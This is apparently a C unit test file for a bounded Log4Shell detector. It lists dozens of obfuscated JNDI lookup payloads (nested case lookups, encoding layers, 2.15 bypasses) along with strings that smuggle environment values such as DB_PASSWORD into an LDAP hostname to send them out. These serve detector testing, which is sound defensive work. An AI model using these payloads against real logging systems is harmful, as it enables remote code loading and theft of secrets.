/* test_l4j: unit tests for the bounded Log4Shell detector (scrub_l4j). */
/* SPDX-License-Identifier: Apache-2.0 */
#include "scrub.h"
#include "scrub_decode.h"
#include "scrub_l4j.h"
#include "ut.h"

#include <stdlib.h>
#include <string.h>
#include <time.h>

/* ---- helpers -------------------------------------------------------------- */

#define L4J_MAXH 16

/* Scan s[0..n) with a fresh detector; hits go to h (L4J_MAXH slots). */
static int l4j_run(const char *s, size_t n, scrub_l4j_hit_t *h, int paranoid)
{
    scrub_l4j_opts_t o = {0, 0, paranoid};
    scrub_l4j_t *l = scrub_l4j_new(&o);
    int rc;

    if (l == NULL) {
        return SCRUB_ENOMEM;
    }
    rc = scrub_l4j_scan(l, (const uint8_t *)s, n, h, L4J_MAXH);
    scrub_l4j_destroy(l);
    return rc;
}

/* Case-insensitive memmem of a lower-case keyword. */
static int ci_contains(const char *s, size_t n, const char *kw)
{
    size_t k = strlen(kw);
    size_t i;
    size_t j;
    char c;

    for (i = 0; i + k <= n; i++) {
        for (j = 0; j < k; j++) {
            c = s[i + j];
            if (c >= 'A' && c <= 'Z') {
                c = (char)(c + 32);
            }
            if (c != kw[j]) {
                break;
            }
        }
        if (j == k) {
            return 1;
        }
    }
    return 0;
}

static int kw_selected(const char *s, size_t n)
{
    const char *const *kw;

    for (kw = scrub_l4j_keywords(); *kw != NULL; kw++) {
        if (ci_contains(s, n, *kw)) {
            return 1;
        }
    }
    return 0;
}

/* A payload that must hit (not paranoid-only) and pass both prefilters. */
static void expect_hit_n(const char *s, size_t n, const char *file, int line)
{
    scrub_l4j_hit_t h[L4J_MAXH];
    int rc = l4j_run(s, n, h, 0);

    ut_checks++;
    if (rc < 1 || h[0].paranoid_only || !scrub_l4j_maybe((const uint8_t *)s, n) ||
        !kw_selected(s, n)) {
        ut_failed++;
        fprintf(stderr, "  FAIL %s:%d: expected a hit (rc %d, maybe %d, kw %d)\n", file, line, rc,
                scrub_l4j_maybe((const uint8_t *)s, n), kw_selected(s, n));
    }
}

static void expect_none_n(const char *s, size_t n, const char *file, int line)
{
    scrub_l4j_hit_t h[L4J_MAXH];
    int rc = l4j_run(s, n, h, 0);

    ut_checks++;
    if (rc != 0) {
        ut_failed++;
        fprintf(stderr, "  FAIL %s:%d: expected no hit, got %d\n", file, line, rc);
    }
}

#define HIT(s) expect_hit_n((s), strlen(s), __FILE__, __LINE__)
#define NONE(s) expect_none_n((s), strlen(s), __FILE__, __LINE__)

/* Exactly one hit with the given raw span. */
static void expect_span(const char *s, size_t start, size_t end, const char *file, int line)
{
    scrub_l4j_hit_t h[L4J_MAXH];
    int rc = l4j_run(s, strlen(s), h, 0);

    ut_checks++;
    if (rc != 1 || h[0].start != start || h[0].end != end) {
        ut_failed++;
        fprintf(stderr, "  FAIL %s:%d: expected span [%zu,%zu), rc %d [%zu,%zu)\n", file, line,
                start, end, rc, rc > 0 ? h[0].start : 0, rc > 0 ? h[0].end : 0);
    }
}

#define SPAN(s, a, b) expect_span((s), (a), (b), __FILE__, __LINE__)

/* Offset of needle in s (test helper, needle known to be present). */
static size_t off_of(const char *s, const char *needle)
{
    return (size_t)(strstr(s, needle) - s);
}

/* ---- T01-T32 -------------------------------------------------------------- */

UT_TEST(l4j_t01_plain)
{
    const char *s = "GET / ua=${jndi:ldap://h:1389/a} x";

    HIT("${jndi:ldap://h:1389/a}");
    SPAN(s, 9, 32);
}

UT_TEST(l4j_t02_mixed_case)
{
    HIT("${jNdI:ldAp://h}");
    HIT("${JNDI:LDAP://h/a}");
    HIT("${${LoWeR:J}ndi:ldap://h}");
}

UT_TEST(l4j_t03_protocols)
{
    HIT("${jndi:rmi://h/a}");
    HIT("${jndi:ldaps://h/a}");
    HIT("${jndi:dns://h/a}");
    HIT("${jndi:iiop://h/a}");
    HIT("${jndi:iiopname://h/a}");
    HIT("${jndi:corbaname::h#a}");
    HIT("${jndi:corba://h/a}");
    HIT("${jndi:nis://h/a}");
    HIT("${jndi:nds://h/a}");
    HIT("${jndi:http://h/a}");
    HIT("${jndi:https://h/a}");
}

UT_TEST(l4j_t04_case_lookups)
{
    HIT("${${lower:${lower:jndi}}:${lower:rmi}://h/a}");
    HIT("${${upper:j}${upper:n}${lower:D}${lower:I}:ldap://h}");
    HIT("${${lower:${upper:${lower:j}}}ndi:ldap://h}");
}

UT_TEST(l4j_t05_empty_name_default)
{
    const char *s = "x ${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h/a} y";

    HIT("${${::-j}${::-n}${::-d}${::-i}:ldap://h/a}");
    HIT("${${:-j}ndi:ldap://h}");
    SPAN(s, 2, strlen(s) - 2);
}

UT_TEST(l4j_t06_garbage_lookup_default)
{
    HIT("${${what:ever:-j}ndi:ldap://h}");
    HIT("${zrch-Q(NGyN-yLkV:-}${jndi:ldap://h}");
    HIT("${${a(b[c@d$e f:-j}ndi:ldap://h}");
}

UT_TEST(l4j_t07_real_lookup_missing_key)
{
    HIT("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h/a}");
    HIT("${${sys:X:-j}nd${sys:X:-i}:ldap://h}");
    HIT("${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://h}");
    HIT("${${main:x:-j}${ctx:x:-n}${docker:x:-d}${spring:x:-i}:ldap://h}");
    HIT("${${web:x:-j}${event:x:-n}${map:x:-d}${sd:x:-i}:ldap://h}");
    HIT("${${marker:x:-j}${log4j:x:-n}${bundle:x:-d}${jvmrunargs:x:-i}:ldap://h}");
}

UT_TEST(l4j_t08_date_literal)
{
    HIT("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h}");
    HIT("${${date:'jnd'}i:ldap://h}");
    HIT("${${date:'j'}${date:'nd'}i:ldap://h}");
    NONE("${${date:'j'''}ndi:ldap://h}");           /* '' inside quotes: value "j'" */
}

UT_TEST(l4j_t09_java_case_mapping)
{
    HIT("${jnd${upper:\xC4\xB1}:ldap://h}");            /* U+0131 -> I */
    HIT("${jndi:${upper:\xC5\xBF}:x}");                 /* U+017F -> S: key "S:x" */
    HIT("${jndi:${lower:\xE2\x84\xAA}:x}");             /* U+212A -> k */
    HIT("${jnd${upper:\\xC4\\xB1}:ldap://h}");
    HIT("${jnd${upper:\\u0131}:ldap://h}");
    HIT("${jnd${upper:%25C4%25B1}:ldap://h}");
    NONE("${jnd${lower:\xC4\xB1}:ldap://h}");          /* lower keeps the dotless i */
    NONE("${jndi:\xC5\xBF:x}");                         /* unmapped: no ASCII scheme */
}

UT_TEST(l4j_t10_constant_lookups)
{
    HIT("${jndi${sys:path.separator}rmi://h/a}");
    HIT("${jndi:ldap:${sys:file.separator}${sys:file.separator}h/a}");
    NONE("${jndi${sys:user.dir}rmi://h/a}");
}

UT_TEST(l4j_t11_nested_defaults)
{
    HIT("${${env:A:-${env:B:-j}}ndi:ldap://h}");
    HIT("${${env:A:-${env:B:-${env:C:-j}}}${env:D:-ndi}:ldap://h}");
}

UT_TEST(l4j_t12_name_built_from_lookups)
{
    HIT("${${${::-l}${::-o}wer:J}ndi:ldap://h}");
    HIT("${x${::-:}-j}ndi:ldap://h}x${${x${::-:}-j}ndi:ldap://h}");
}

UT_TEST(l4j_t13_empty_splitters)
{
    HIT("${j${::-}n${x:-}d${:-}i:ldap://h}");
    HIT("${jn${lower:}di:ldap://h}");
}

UT_TEST(l4j_t14_escaped_dollar_second_order)
{
    const char *s = "$${e:x:-${e:y:-$}{jndi:ldap://h/a}}}";

    HIT(s);
    HIT("${::-$${jndi:ldap://h/a}}");
    HIT("$${env:x:-${env:y:-$}{jndi:ldap://h/a}}}");
    HIT("${date:'$'}{jndi:ldap://h/a}");
    HIT("$${jndi:ldap://h/a}");
    /* second-pass span: from the first frame to the brace that closes the
     * assembled ${jndi:...}; the doc's example has one '}' too many */
    SPAN(s, 1, strlen(s) - 1);
}

UT_TEST(l4j_t15_percent)
{
    const char *s = "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D&x=1";

    HIT("%24%7Bjndi%3Aldap%3A%2F%2Fh%7D");
    HIT("$%7Bjndi:ldap://h/a%7D");
    HIT("%24%7bjndi%3aldap%3a%2f%2fh%7d");
    SPAN(s, 8, off_of(s, "&x"));
}

UT_TEST(l4j_t16_percent_layers)
{
    HIT("%2524%257Bjndi%253Aldap%253A%252F%252Fh%257D");
    HIT("%252524%25257Bjndi:ldap://h%25257D");
    HIT("%%32%34%7Bjndi:ldap://h}");
}

UT_TEST(l4j_t17_iis_percent_u)
{
    const char *s = "a=%u0024%u007Bjndi:ldap://h%u007D";

    HIT(s);
    SPAN(s, 2, strlen(s));
}

UT_TEST(l4j_t18_unicode_escapes)
{
    const char *s = "{\"m\":\"\\u0024\\u007bjndi:ldap://h\\u007d\"}";

    HIT("${\\u006a\\u006e\\u0064\\u0069:ldap://h}");
    HIT("\\uu0024\\uuu007bjndi:ldap://h\\u007d");
    HIT("\\u{24}\\u{7b}jndi:ldap://h\\u{7D}");
    NONE("${jnd${upper:\\ud801\\udc00}i:ldap://h}"); /* pair joined: U+10400 */
    NONE("${jnd${upper:\\ud801}i:ldap://h}");        /* lone: U+FFFD */
    SPAN(s, 6, off_of(s, "\"}"));
}

UT_TEST(l4j_t19_hex_escapes)
{
    HIT("\\x24\\x7Bjndi:ldap://h/a\\x7D");
    HIT("${jnd${upper:\\xC4\\xB1}:ldap://h}");
}

UT_TEST(l4j_t20_octal)
{
    HIT("\\044\\173jndi:ldap://h/a\\175");
    HIT("\\44{jndi:ldap://h}");
}

UT_TEST(l4j_t21_numeric_entities)
{
    HIT("&#x24;&#000000000000000000123;jndi:ldap://h/a}");
    HIT("&#36&#123jndi:ldap://h&#125");
    HIT("&#X24;&#x7B;jndi:ldap://h&#x7d;");
}

UT_TEST(l4j_t22_named_entities)
{
    HIT("$&lbrace;jndi&colon;ldap&colon;&sol;&sol;h&rbrace;");
    HIT("$&LBRACE;jndi:ldap://h}");
    HIT("&dollar;&lcub;jndi&colon;ldap&colon;&sol;&sol;h&rcub;");
    HIT("&DOLLAR&LCUBjndi:ldap://h&RCUB");
}

UT_TEST(l4j_t23_mixed_layered)
{
    HIT("\\u002524%7Bjndi:ldap://h}");
    HIT("$\\u0026lbracejndi:ldap://h}");
    HIT("%24&lcub;\\u006A&#110;di:ldap://h}");
    HIT("%26%2336%3B%7Bjndi:ldap://h}");
    HIT("\\x5Cx24{jndi:ldap://h}");
    HIT("%26dollar%3B%26lcub%3Bjndi:ldap://h%26rcub%3B");
}

UT_TEST(l4j_t24_double_escaped_json)
{
    HIT("{\"log\":\"\\\\u0024\\\\u007bjndi:ldap://h/a\\\\u007d\"}");
    HIT("\\\\\\\\u0024\\\\\\\\u007bjndi:ldap://h/a\\\\\\\\u007d");
}

UT_TEST(l4j_t25_base64)
{
    HIT("${${base64:JHtqbmRpOmxkYXA6YWRkcn0=}}");
    HIT("${jn${base64:ZGk=}:ldap://h}");
    NONE("${jn${base64:Z!k=}:ldap://h}");
}

UT_TEST(l4j_t26_whitespace_in_names)
{
    HIT("${${\t::-j}ndi:ldap://h}");
    HIT("${${ ::-j}ndi:ldap://h}");
    HIT("${${\n:-j}ndi:ldap://h}");
    HIT("${ jndi :ldap://h}"); /* tolerated on purpose (policy) */
}

UT_TEST(l4j_t27_bypasses_2_15)
{
    HIT("${jndi:ldap://127.0.0.1#evil.example/a}");
    HIT("${jndi:ldap://127.0.0.1:1389/ badClassName}");
    HIT("mdc={X-Api-Version=${jndi:ldap://h/a}, user=alice}");
}

UT_TEST(l4j_t28_exfiltration_in_key)
{
    HIT("${jndi:ldap://${env:USER}.${sys:os.name}.${hostName}.h/a}");
    HIT("${jndi:ldap://h/a?k=${env:DB_PASSWORD}}");
}

UT_TEST(l4j_t29_long_padding)
{
    char buf[2048];
    size_t k;

    memcpy(buf, "${${", 4);
    for (k = 0; k < 1500; k++) {
        buf[4 + k] = "AbC_9"[k % 5];
    }
    strcpy(buf + 4 + k, ":-j}ndi:ldap://h}");
    HIT(buf);
    buf[4 + 64] = '\0';
    strcat(buf, ":-j}ndi:ldap://h}");
    HIT(buf);
}

UT_TEST(l4j_t30_json_split)
{
    HIT("{\"k1-${jnd${x\":\"x:-i}:ld${\",\"k2\":\"y:-a}p://h/z}\"}");
}

UT_TEST(l4j_t31_odd_hosts)
{
    HIT("${jndi:ldap:/h}");
    HIT("${jndi:ldap://[2001:db8::7]/a}");
    HIT("${jndi:ldap://3232235777/a}");
    HIT("${${::-j}ndi:ldap://{{Hostname}}/a}");
    HIT("${jndi:ldap://{$date:x}.h/a}");
}

UT_TEST(l4j_t32_decoy_placeholder)
{
    const char *s = "msg ${order.summary.footer.label.text.x} ref=${jndi:ldap://h/a} end";

    HIT(s);
    SPAN(s, off_of(s, "${jndi"), off_of(s, " end"));
}

/* ---- negative classes (§6) ------------------------------------------------ */

UT_TEST(l4j_neg_spring_jndi_name)
{
    NONE("url=${jndi.url:ldap://ldap.example/dc=x}");
    NONE("url=${jndi.url}");
    NONE("${jndiName}");
    NONE("${JndiName:ldap://h}"); /* prefix "jndiname" */
}

UT_TEST(l4j_neg_shell_expansion)
{
    /* log4j prefixes are case-insensitive; these are excluded by name/key */
    NONE("export U=${JNDI_URL:-ldap://ldap.example:389}");
    NONE("${JNDI:=ldap://h}");
    NONE("${VAR::-1} ${#a[@]} ${x//a/b}");
}

UT_TEST(l4j_neg_local_jndi)
{
    NONE("${jndi:logging/context-name}");
    NONE("${jndi:java:comp/env/jdbc/x}");
    NONE("${jndi: JAVA :comp/env/x}");
}

UT_TEST(l4j_neg_log4j_config)
{
    NONE("<PatternLayout pattern=\"%d{HH:mm:ss.SSS} [%t] $${ctx:loginId} %-5level "
         "%logger{36} - %msg%n\"/>");
    NONE("fileName=${sys:user.home}/logs/${env:LOG_DIR:-/var/log}/${date:yyyy-MM-dd}.log");
    NONE("$${ctx:user} $${env:USER} $${main:0}");
}

UT_TEST(l4j_neg_nested_placeholders)
{
    NONE("server.port=${server.port:${PORT:8080}}");
    NONE("${LOG_DIR:-${APP_HOME:-/opt/app}/logs}");
    NONE("${a:${b}}");
}

UT_TEST(l4j_neg_other_templates)
{
    NONE("run: echo ${{ github.event.inputs.x }}");
    NONE("arn:aws:s3:::${AWS::Region}-${AWS::AccountId}");
    NONE("{{ .Values.image }} ${var.region} ${header.foo} ${body}");
}

UT_TEST(l4j_neg_encoded_templates)
{
    NONE("/d/x?var-host=%24%7Bhost%7D&from=now");
    NONE("{\"t\":\"\\u0024{user.name}\"}");
    NONE("<p>&#36;{price}</p>");
}

UT_TEST(l4j_neg_hunting_queries)
{
    NONE("SELECT * FROM logs WHERE msg LIKE '%${jndi:%'");
    NONE("msg LIKE '%${jndi:ldap%' OR msg LIKE '%}%'");
    NONE("grep -E '\\$\\{jndi:(ldap|rmi)' /var/log/app.log");
    NONE("index=web \"*${jndi:*\" | stats count");
}

UT_TEST(l4j_neg_plain_text)
{
    NONE("user jndi logged in from ldap://h");
    NONE("${user} ran lookup jndi:ldap://h/a");
    NONE("at javax.naming.InitialContext.lookup(InitialContext.java:417) "
         "com.sun.jndi.ldap.LdapCtx -Dcom.sun.jndi.ldap.object.trustURLCodebase=false");
    NONE("${datoteke} ni mogoce najti; jndi nis ${ime}: napaka");
    NONE("${jndi:ldap://h/a");                 /* unclosed: inert */
    NONE("${${::-${::-$${::-j}}}}");           /* CVE-2021-45105: separate rule */
}

/* ---- behaviour ------------------------------------------------------------- */

UT_TEST(l4j_paranoid)
{
    scrub_l4j_hit_t h[L4J_MAXH];
    const char *s = "x ${a:${b}} y";

    UT_CHECK_INT(l4j_run(s, strlen(s), h, 0), 0);
    UT_CHECK_INT(l4j_run(s, strlen(s), h, 1), 1);
    UT_CHECK_INT(h[0].start, 2);
    UT_CHECK_INT(h[0].end, 11);
    UT_CHECK_INT(h[0].paranoid_only, 1);
    s = "${a:${jndi:ldap://h}}";
    UT_CHECK_INT(l4j_run(s, strlen(s), h, 1), 1);
    UT_CHECK_INT(h[0].paranoid_only, 0);
    s = "${jndi:ldap://h}";
    UT_CHECK_INT(l4j_run(s, strlen(s), h, 1), 1);
    UT_CHECK_INT(h[0].paranoid_only, 0);
    s = "${plain} ${x";
    UT_CHECK_INT(l4j_run(s, strlen(s), h, 1), 0);
    s = "${x ${y}";  /* unclosed outer with a nested frame */
    UT_CHECK_INT(l4j_run(s, strlen(s), h, 1), 1);
    UT_CHECK_INT(h[0].paranoid_only, 1);
}

UT_TEST(l4j_multiple_hits_and_max)
{
    scrub_l4j_hit_t h[L4J_MAXH];
    const char *s = "${jndi:ldap://a} ${jndi:rmi://b} ${x} ${jndi:dns://c}";
    scrub_l4j_t *l = scrub_l4j_new(NULL);
    int rc;

    UT_CHECK(l != NULL);
    rc = scrub_l4j_scan(l, (const uint8_t *)s, strlen(s), h, L4J_MAXH);
    UT_CHECK_INT(rc, 3);
    UT_CHECK_INT(h[0].start, 0);
    UT_CHECK_INT(h[1].start, off_of(s, "${jndi:rmi"));
    UT_CHECK_INT(h[2].end, strlen(s));
    rc = scrub_l4j_scan(l, (const uint8_t *)s, strlen(s), h, 2);
    UT_CHECK_INT(rc, 2);
    /* reuse: a clean record after a dirty one */
    rc = scrub_l4j_scan(l, (const uint8_t *)"${x}", 4, h, L4J_MAXH);
    UT_CHECK_INT(rc, 0);
    UT_CHECK_INT(scrub_l4j_scan(l, NULL, 0, h, 1), 0);
    UT_CHECK_INT(scrub_l4j_scan(l, NULL, 3, h, 1), SCRUB_EINVAL);
    UT_CHECK_INT(scrub_l4j_scan(NULL, (const uint8_t *)"x", 1, h, 1), SCRUB_EINVAL);
    scrub_l4j_destroy(l);
    scrub_l4j_destroy(NULL);
}

UT_TEST(l4j_nul_bytes)
{
    static const char s[] = "a\0${jn\0${::-d}i:ldap://h}\0${jndi:rmi://h}\0";
    scrub_l4j_hit_t h[L4J_MAXH];

    UT_CHECK_INT(l4j_run(s, sizeof(s) - 1, h, 0), 1);
    UT_CHECK_INT(h[0].start, 26);
    UT_CHECK_INT(h[0].end, 41);
}

UT_TEST(l4j_spans_unicode_mixed)
{
    /* frame opened by \u0024\u007b, closed by &#125; */
    const char *s = "k=\\u0024\\u007bjn&#100;i:ldap://h&#125;;z";

    SPAN(s, 2, off_of(s, ";z"));
    /* layered: %2524 is the start, %257D the end */
    s = "q=%2524%257Bjndi:ldap://h%257D&a";
    SPAN(s, 2, off_of(s, "&a"));
    /* frame containing the payload spans the outer expression */
    s = "pre ${::-${jndi:ldap://h}} post";
    SPAN(s, 4, off_of(s, " post"));
}

static double l4j_secs(clock_t t0)
{
    return (double)(clock() - t0) / CLOCKS_PER_SEC;
}

/* Run a hostile input; it must end in a result or SCRUB_EBUDGET, quickly. */
static void hostile(const char *unit, size_t reps, int want_budget, const char *file, int line)
{
    size_t k = strlen(unit);
    size_t n = k * reps;
    char *s = malloc(n);
    scrub_l4j_hit_t h[L4J_MAXH];
    clock_t t0;
    int rc;
    size_t i;

    if (s == NULL) {
        return;
    }
    for (i = 0; i < reps; i++) {
        memcpy(s + i * k, unit, k);
    }
    t0 = clock();
    rc = l4j_run(s, n, h, 0);
    ut_checks++;
    if (!(rc == SCRUB_EBUDGET || rc >= 0) || (want_budget && rc != SCRUB_EBUDGET) ||
        l4j_secs(t0) > 10.0) {
        ut_failed++;
        fprintf(stderr, "  FAIL %s:%d: hostile rc %d in %.2fs\n", file, line, rc, l4j_secs(t0));
    }
    free(s);
}

#define HOSTILE(u, r, b) hostile((u), (r), (b), __FILE__, __LINE__)

UT_TEST(l4j_hostile_inputs)
{
    HOSTILE("${", 50 * 1024, 1);            /* 100 KB of nested ${ */
    HOSTILE("%25", 350 * 1024, 0);          /* ~1 MB of %25 */
    HOSTILE("%2525", 200 * 1024, 0);
    HOSTILE("${lower:", 128 * 1024, 1);     /* 1 MB without closers */
    HOSTILE("$${", 40 * 1024, 1);           /* deep $${ */
    HOSTILE("${a}", 256 * 1024, 0);         /* many flat frames: linear */
    HOSTILE("${jndi", 40, 1);               /* log4shell-rex killer line */
    HOSTILE("\\\\", 512 * 1024, 0);
    HOSTILE("&#0000000000", 64 * 1024, 0);
    HOSTILE("${::-$}{", 64 * 1024, 1);
}

UT_TEST(l4j_budget_and_depth_options)
{
    scrub_l4j_opts_t o = {50, 0, 0};
    scrub_l4j_hit_t h[1];
    const char *s = "${${::-j}${::-n}${::-d}${::-i}:ldap://h/a}";
    scrub_l4j_t *l = scrub_l4j_new(&o);
    int rc;

    UT_CHECK(l != NULL);
    rc = scrub_l4j_scan(l, (const uint8_t *)s, strlen(s), h, 1);
    UT_CHECK_INT(rc, SCRUB_EBUDGET);
    scrub_l4j_destroy(l);
    o.budget = 0;
    o.max_depth = 2;
    l = scrub_l4j_new(&o);
    UT_CHECK(l != NULL);
    rc = scrub_l4j_scan(l, (const uint8_t *)s, strlen(s), h, 1);
    UT_CHECK_INT(rc, 1);
    s = "${${${::-j}}ndi:ldap://h}";
    rc = scrub_l4j_scan(l, (const uint8_t *)s, strlen(s), h, 1);
    UT_CHECK_INT(rc, SCRUB_EBUDGET);
    scrub_l4j_destroy(l);
    /* default depth: 31 levels are fine, 40 are not */
    {
        char buf[512];
        size_t k;
        size_t p = 0;

        for (k = 0; k < 30; k++) {
            memcpy(buf + p, "${::-", 5);
            p += 5;
        }
        memcpy(buf + p, "${jndi:ldap://h}", 16);
        p += 16;
        for (k = 0; k < 30; k++) {
            buf[p++] = '}';
        }
        UT_CHECK_INT(l4j_run(buf, p, h, 0), 1);
        memmove(buf + 50, buf, p);
        for (k = 0; k < 10; k++) {
            memcpy(buf + 5 * k, "${::-", 5);
        }
        UT_CHECK_INT(l4j_run(buf, p + 50, h, 0), SCRUB_EBUDGET);
    }
}

UT_TEST(l4j_maybe_and_keywords)
{
    const char *const *kw = scrub_l4j_keywords();
    const char *clean = "GET /index.html?a=1&b=%2F 200 user=bob $5 C:\\temp {x}";
    size_t i;

    UT_CHECK(kw != NULL && kw[0] != NULL);
    UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)clean, strlen(clean)), 0);
    UT_CHECK_INT(kw_selected(clean, strlen(clean)), 0);
    UT_CHECK_INT(scrub_l4j_maybe(NULL, 0), 0);
    UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)"$", 1), 0);
    UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)"%2524", 5), 1);
    UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)"\\U0024", 6), 1);
    UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)"&DOLLAR;", 8), 1);
    for (i = 0; kw[i] != NULL; i++) {
        UT_CHECK(scrub_l4j_maybe((const uint8_t *)kw[i], strlen(kw[i])) == 1);
        UT_CHECK(strlen(kw[i]) >= 2);
    }
}

/* Tiny deterministic PRNG for the property test. */
static uint32_t l4j_rand(uint32_t *s)
{
    *s ^= *s << 13;
    *s ^= *s >> 17;
    *s ^= *s << 5;
    return *s;
}

/* Property: whenever scan hits (or fails closed), maybe and the keywords select. */
UT_TEST(l4j_prefilter_sound_random)
{
    static const char *const atoms[] = {
        "$", "{", "}", "%", "2", "4", "5", "7", "b", "c", "u", "0", "\\", "x", "&", "#", "3",
        "6", ";", "d", "o", "l", "a", "r", "j", "n", "i", ":", "-", "/", "${", "jndi:ldap://h",
        "%7b", "%24", "\\u00", "&#", "lcub", "dollar", "::-", "lower:", "'"};
    scrub_l4j_t *l = scrub_l4j_new(NULL);
    scrub_l4j_hit_t h[4];
    char buf[256];
    uint32_t seed = 0x9e3779b9u;
    size_t p;
    size_t a;
    int it;
    int rc;
    int bad = 0;
    int hits = 0;

    UT_CHECK(l != NULL);
    for (it = 0; it < 200000 && l != NULL; it++) {
        p = 0;
        while (p < 200) {
            a = l4j_rand(&seed) % (sizeof(atoms) / sizeof(atoms[0]));
            if (p + strlen(atoms[a]) >= sizeof(buf)) {
                break;
            }
            memcpy(buf + p, atoms[a], strlen(atoms[a]));
            p += strlen(atoms[a]);
            if (l4j_rand(&seed) % 16 == 0) {
                break;
            }
        }
        rc = scrub_l4j_scan(l, (const uint8_t *)buf, p, h, 4);
        if (rc > 0) {
            hits++;
        }
        if ((rc > 0 || rc == SCRUB_EBUDGET) &&
            (!scrub_l4j_maybe((const uint8_t *)buf, p) || !kw_selected(buf, p))) {
            bad++;
        }
    }
    UT_CHECK_INT(bad, 0);
    UT_CHECK(hits > 0);
    scrub_l4j_destroy(l);
}

/* Property: the first round read from the raw bytes (scrub_decode_first) is
 * the round over the loaded identity map, bytes and spans alike. */
UT_TEST(decode_first_matches_loaded_round)
{
    static const char *const pieces[] = {"%24", "%7B", "%2524", "%u0024", "\\u0024", "\\u{7b}",
                                         "\\x24", "\\44", "\\\\", "\\\"", "&#36;", "&#x7b",
                                         "&dollar;", "&lcub;", "%", "\\", "&", "a", "Z", "9",
                                         "{", "$", "\\ud83d\\ude00", "%e9", "&#0000036"};
    unsigned seed = 31;
    int round, changed_seen = 0;

    for (round = 0; round < 3000; round++) {
        char in[256];
        size_t n = 0, i;
        scrub_dmap_t raw, a, b;
        int ca = -1, cb = -1;
        while (n < 200) {
            const char *p = pieces[rand_r(&seed) % (sizeof(pieces) / sizeof(pieces[0]))];
            size_t k = strlen(p);
            if (rand_r(&seed) % 8 == 0 || n + k > sizeof(in)) {
                break;
            }
            memcpy(in + n, p, k);
            n += k;
        }
        scrub_dmap_init(&raw);
        scrub_dmap_init(&a);
        scrub_dmap_init(&b);
        UT_CHECK(scrub_dmap_load(&raw, (const uint8_t *)in, n) == 0);
        UT_CHECK(scrub_decode_round(&raw, &a, &ca) == 0);
        UT_CHECK(scrub_decode_first((const uint8_t *)in, n, &b, &cb) == 0);
        UT_CHECK_INT(ca, cb);
        if (ca && cb) {
            changed_seen++;
            UT_CHECK(a.len == b.len && memcmp(a.b, b.b, a.len) == 0);
            for (i = 0; i < a.len && i < b.len; i++) {
                UT_CHECK(a.lo[i] == b.lo[i] && a.hi[i] == b.hi[i]);
            }
        }
        scrub_dmap_free(&raw);
        scrub_dmap_free(&a);
        scrub_dmap_free(&b);
    }
    UT_CHECK(changed_seen > 1000); /* most inputs really decoded */
}

/* Property: scrub_l4j_maybe (SIMD search for the keywords' first bytes, a
 * pair table, then the keywords) says 1 exactly when a keyword occurs. */
UT_TEST(l4j_maybe_equals_keyword_search)
{
    static const char alpha[] = "$%\\&{}u0xX2d5cAaPpBbOo#;4 \"nZ";
    unsigned seed = 77;
    int round, yes = 0;

    for (round = 0; round < 20000; round++) {
        char s[300];
        size_t n = (size_t)(rand_r(&seed) % 300), i;
        int dense = rand_r(&seed) % 2;
        for (i = 0; i < n; i++) {
            s[i] = dense || rand_r(&seed) % 40 == 0 ? alpha[rand_r(&seed) % (sizeof(alpha) - 1)]
                                                   : (char)('a' + rand_r(&seed) % 26);
        }
        UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)s, n), kw_selected(s, n));
        yes += kw_selected(s, n);
    }
    UT_CHECK(yes > 2000 && yes < 18000); /* both answers were exercised */
    {
        /* a keyword after more than 64 first bytes that start none (\" & z %z) */
        char s[700];
        size_t n = 0;
        int k;
        for (k = 0; k < 160; k++) {
            memcpy(s + n, k % 3 == 0 ? "\\\"" : k % 3 == 1 ? "& " : "%z", 2);
            n += 2;
        }
        UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)s, n), 0);
        memcpy(s + n, "\\u0024", 6);
        UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)s, n + 6), 1);
        UT_CHECK_INT(scrub_l4j_maybe((const uint8_t *)s, n + 2), 0); /* "\\u" alone */
    }
}
